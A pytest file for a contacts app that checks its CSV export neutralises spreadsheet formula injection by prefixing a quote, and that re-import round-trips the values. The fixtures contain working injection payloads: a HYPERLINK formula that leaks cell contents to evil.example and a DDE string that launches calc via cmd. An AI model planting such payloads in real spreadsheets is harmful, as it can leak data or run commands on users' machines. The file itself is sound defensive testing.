"""The CSV export: values a spreadsheet would run as formulas are written as text."""

from __future__ import annotations

import csv
import io

import pytest

from kithkin.exports.services import export_csv
from kithkin.imports.services import import_file
from kithkin.people.models import Person
from kithkin.people.services import PersonChanges, add_person
from kithkin.testing import make_user

pytestmark = pytest.mark.usefixtures("frozen")

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def _person(owner):
    return add_person(
        owner,
        "Ana Ruiz",
        PersonChanges(
            organization=HYPERLINK,
            title="@SUM(1+1)*cmd|' /C calc'!A0",
            phones=["+1 415 555 0100"],
            notes="-2+3 is what she said\n=1+1 on the second line",
            location="'=quoted already",
        ),
    )


def _cells(text):
    header, *rows = list(csv.reader(io.StringIO(text, newline="")))
    return [dict(zip(header, row, strict=True)) for row in rows]


# Issue 13, item 11
def test_csv_export_writes_formula_like_values_as_text_behind_a_quote(alice):
    _person(alice)
    (row,) = _cells(export_csv(alice, Person.objects.for_owner(alice)))
    assert row["Organization Name"] == "'" + HYPERLINK
    assert row["Organization Title"].startswith("'@SUM")
    assert row["Phone 1 - Value"].startswith("'+1")
    assert row["Notes"].startswith("'-2+3")
    assert row["Address 1 - City"] == "''=quoted already"  # a quote of its own is kept
    assert not [name for name, value in row.items() if value[:1] in {"=", "+", "-", "@", "\t", "\r"}]


# Issue 13, item 11
def test_csv_export_writes_values_as_they_are_when_the_guard_is_off(alice, settings):
    settings.CSV_FORMULA_GUARD = False
    _person(alice)
    (row,) = _cells(export_csv(alice, Person.objects.for_owner(alice)))
    assert row["Organization Name"] == HYPERLINK
    assert row["Phone 1 - Value"].startswith("+1")


# Issue 13, item 11
def test_reimporting_kithkins_own_guarded_csv_gives_back_the_values_without_the_quote(alice, db):
    ana = _person(alice)
    text = export_csv(alice, Person.objects.for_owner(alice))
    carol = make_user("carol")
    import_file(carol, "csv", text.encode(), "kithkin.csv")
    back = Person.objects.for_owner(carol).get()
    assert back.organization.name == HYPERLINK
    assert back.title == ana.title
    assert back.notes == ana.notes
    assert [p.number for p in back.phones.all()] == [p.number for p in ana.phones.all()]
    assert back.location == "'=quoted already"
    # Exported again, the file is the same: nothing was lost or doubled on the way.
    assert export_csv(carol, Person.objects.for_owner(carol)) == text
